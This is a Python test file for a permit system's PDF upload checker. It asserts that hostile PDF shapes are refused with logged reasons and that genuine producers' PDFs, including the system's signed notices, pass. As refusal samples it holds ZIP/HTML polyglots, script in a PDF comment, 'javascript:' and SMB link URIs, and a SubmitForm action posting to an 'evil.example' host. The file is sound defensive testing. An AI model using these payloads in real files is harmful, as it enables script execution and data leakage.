"""documents.pdf_check: an upload holds what a scanned, printed or signed document needs and
nothing else. Each refused shape of the corpus is refused with its reason, in the message and
in the log line; the PDFs real producers write (this system's own signed notices and printed
forms among them) pass."""

import io
import logging
import shutil
import subprocess
import zipfile

import pikepdf
import pytest
from django.core.files.storage import default_storage

from core.errors import ValidationFailed
from documents.pdf_check import MSG_REFUSED, REASONS, check_pdf
from documents.pdfguard import envelope, reasons
from documents.tests import pdf_shapes as shapes
from permits.models import Notice
from permits.notices.tasks import render_notice_pdf
from permits.printing import application_form_pdf
from permits.services.attachments import attachment_recheck
from testing import factories as f
from testing import hostile_pdfs as hostile

# The shapes refused since actions, annotations and the layout are held to an allowlist.
ALLOWLIST_VERDICTS = {
    envelope.ZIP_INSIDE,
    reasons.COMMENT,
    reasons.STRAY,
    reasons.REMOTE_GOTO,
    reasons.SUBMIT_FORM,
    reasons.IMPORT_DATA,
    reasons.ACTION,
    reasons.URI,
    reasons.RICH_MEDIA,
    reasons.FORM_FIELD,
    reasons.ANNOTATION,
}
REFUSED = {s.name: s for s in hostile.corpus() if s.verdict in ALLOWLIST_VERDICTS}


@pytest.fixture(autouse=True)
def _patient_wall_clock(settings):
    settings.PDF_CHECK_WALL_SECONDS = 30  # a busy test machine is no reason to refuse


def test_every_reason_has_its_message():
    names = [v for k, v in vars(reasons).items() if k.isupper()]
    assert set(names) | {envelope.PREFIX, envelope.TRAILING, envelope.ZIP_INSIDE} <= set(REASONS)
    assert {s.verdict for s in REFUSED.values()} == ALLOWLIST_VERDICTS


@pytest.mark.parametrize("name", list(REFUSED))
def test_each_shape_outside_the_allowlist_is_refused_with_its_reason(name, caplog):
    sample = REFUSED[name]
    with caplog.at_level(logging.WARNING, logger="documents.pdf_check"):
        with pytest.raises(ValidationFailed) as refused:
            check_pdf(sample.build())
    message = str(MSG_REFUSED % {"reason": REASONS[sample.verdict]})
    assert refused.value.detail == message
    assert "打印" in message  # tells the enterprise what to do
    [line] = [r.getMessage() for r in caplog.records]
    assert sample.verdict in line


def test_the_polyglots_really_open_as_archives():
    """What the ZIP shapes guard against: an archive tool lists evil.html in them."""
    for build in (hostile.zip_in_comment, hostile.zip_in_stream):
        assert zipfile.ZipFile(io.BytesIO(build())).namelist() == ["evil.html"]


def test_the_log_line_says_what_was_found_and_where(caplog):
    data = hostile.html_in_comment()
    with caplog.at_level(logging.WARNING, logger="documents.pdf_check"):
        with pytest.raises(ValidationFailed):
            check_pdf(data)
    [line] = [r.getMessage() for r in caplog.records]
    assert f"reasons=comment found=byte {data.index(b'%<html>')}: %<html><script>" in line


def test_only_web_and_mail_addresses_are_links():
    for uri in (b"https://nmpa.gov.cn/", b"HTTP://example.com", b"mailto:a@example.com"):
        link = hostile.LINK % (b"<</S/URI/URI(%s)>>" % uri)
        assert check_pdf(hostile.annotated(link)).pages == 1
    for uri in (rb"\\\\evil\\share", b"javascript:alert(1)", b"smb://evil/share", b"x.html"):
        with pytest.raises(ValidationFailed):
            check_pdf(hostile.annotated(hostile.LINK % (b"<</S/URI/URI(%s)>>" % uri)))


@pytest.mark.parametrize(
    "action",
    [b"/AA<</O<</S/Hide/T(x)>>>>", b"/AA<</C<</S/GoTo/D[0/Fit]/Next 4 0 R>>>>"],
    ids=["page additional action", "chained by reference"],
)
def test_actions_are_found_wherever_a_viewer_would_run_them(action):
    more = (b"<</S/SubmitForm/F(https://evil.example/)>>",) if b"4 0 R" in action else ()
    with pytest.raises(ValidationFailed):
        check_pdf(hostile.with_page(action, *more))


GOOD = {
    "pypdf, three pages": lambda: f.pdf_bytes(pages=3),
    "line ends CRLF": lambda: shapes.plain(b"\r\n"),
    "line ends CR": lambda: shapes.plain(b"\r"),
    "macOS marker, indirect lengths": shapes.quartz,
    "ReportLab marker and trailer note": shapes.reportlab,
    "Ghostscript invocation": shapes.ghostscript,
    "% and keywords in strings and streams": shapes.strings_and_streams,
    "incremental update": lambda: shapes.incremental(shapes.plain()),
    "links, markup, popup, stamp, bookmarks": shapes.reviewed,
    "signature field on the parent": shapes.signature_field_by_parent,
    "linearized": lambda: shapes.resaved(shapes.reviewed(), linearize=True),
    "object and xref streams": lambda: shapes.resaved(
        shapes.reviewed(), object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
}


@pytest.mark.parametrize("name", list(GOOD))
def test_good_shapes_pass(name):
    assert check_pdf(GOOD[name]()).pages == 1 + 2 * (name == "pypdf, three pages")


@pytest.fixture
def signed_permit(applicant_a, approver_bj) -> bytes:
    """This system's own permit: WeasyPrint, QR code, signed by pyHanko in an incremental
    update with a /Widget /FT /Sig field."""
    app = f.approved(applicant_a, approver_bj)
    notice = Notice.objects.filter(application=app).order_by("issued_at").last()
    return render_notice_pdf(notice.snapshot)


@pytest.mark.django_db
def test_the_systems_own_documents_pass(signed_permit, applicant_a):
    assert signed_permit.count(b"%%EOF") == 2 and b"/FT /Sig" in signed_permit
    assert check_pdf(signed_permit).pages >= 1
    for options in ({"linearize": True}, {"object_stream_mode": pikepdf.ObjectStreamMode.generate}):
        assert check_pdf(shapes.resaved(signed_permit, **options)).pages >= 1
    printed = application_form_pdf(f.make_application(applicant_a))
    assert check_pdf(printed).pages >= 1


@pytest.mark.django_db
@pytest.mark.skipif(not shutil.which("pdftocairo"), reason="poppler's pdftocairo is missing")
def test_cairo_output_passes(signed_permit, tmp_path):
    """Cairo writes what Linux desktops print to PDF."""
    (tmp_path / "in.pdf").write_bytes(signed_permit)
    tool = shutil.which("pdftocairo")
    subprocess.run(  # noqa: S603 - a fixed tool on files of this test
        [tool, "-pdf", str(tmp_path / "in.pdf"), str(tmp_path / "out.pdf")], check=True
    )
    assert check_pdf((tmp_path / "out.pdf").read_bytes()).pages >= 1


@pytest.mark.django_db
def test_recheck_judges_stored_files_by_the_same_allowlist(applicant_a):
    app = f.make_application(applicant_a)
    f.fill_attachments(applicant_a, app)
    stored = app.attachments.order_by("type").first()
    default_storage.delete(stored.storage_name)
    default_storage.save(stored.storage_name, io.BytesIO(hostile.zip_in_comment()))
    problem = attachment_recheck(attachment=stored)
    assert problem == str(MSG_REFUSED % {"reason": REASONS[envelope.ZIP_INSIDE]})
    others = app.attachments.exclude(pk=stored.pk)
    assert [attachment_recheck(attachment=a) for a in others] == [None] * others.count()
